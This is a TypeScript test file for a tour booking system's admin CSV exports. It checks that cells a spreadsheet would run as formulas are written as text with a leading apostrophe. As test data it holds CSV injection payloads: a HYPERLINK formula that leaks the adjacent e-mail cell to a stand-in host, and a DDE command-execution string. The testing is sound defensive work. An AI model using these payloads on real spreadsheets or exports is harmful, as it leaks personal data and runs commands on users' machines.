import { describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { spreadsheetCsv } from '@/server/admin/spreadsheetCsv';
import { manifestCsv } from '@/server/admin/manifestService';

// Walked (30 Nov): a traveller booked as `=HYPERLINK("http://x/?"&E2,"Sam")` with the request
// `=cmd|' /C calc'!A0`, and the departure manifest and money CSVs carried both as they were: opened
// in a spreadsheet, the first became a live link leaking the next cell (an e-mail address).

const cells = (csv: string) => parse(csv, { bom: true }) as string[][];

describe('the office’s CSV files', () => {
  it('write what would run as a formula as text, with a leading apostrophe; amounts stay numbers', () => {
    const rows = [['=HYPERLINK("http://x/?"&E2,"Sam")', "=cmd|' /C calc'!A0", '@SUM(A1)', '+255 754 000 000', '- vegetarian', '\tx', '＝1+1', '-50.00', '700.00', 2, 'Łukasz Dvořák']];
    const [, row] = cells(spreadsheetCsv(rows, 'abcdefghijk'.split('')));
    expect(row).toEqual(['\'=HYPERLINK("http://x/?"&E2,"Sam")', "'=cmd|' /C calc'!A0", "'@SUM(A1)", "'+255 754 000 000", "'- vegetarian", "'\tx", "'＝1+1", '-50.00', '700.00', '2', 'Łukasz Dvořák']);
  });

  it('the departure manifest: a name and a request typed as formulas are written as text', () => {
    const passenger = {
      number: 'B-2026-000019', status: 'awaiting_deposit', fullName: '=HYPERLINK("http://walks.example/?"&E2,"Sam Probe")', names: [], email: 'walks@example.com', phone: '+255 754 000 000', country: 'TZ',
      adults: 2, children: 0, childAges: [], rooms: '', requests: "=cmd|' /C calc'!A0", held: true, seats: 2, paidCents: 0, owedCents: 6_900,
    };
    const csv = manifestCsv({ departure: { startDate: '2027-11-18', tourTitle: '3-Day Tarangire Camping' }, passengers: [passenger], totals: {} } as never);
    const [header, row] = cells(csv);
    const cell = (name: string) => row![header!.indexOf(name)];
    expect(cell('lead traveller')).toBe('\'=HYPERLINK("http://walks.example/?"&E2,"Sam Probe")');
    expect(cell('requests')).toBe("'=cmd|' /C calc'!A0");
    expect(cell('owed USD')).toBe('69.00');
  });
});
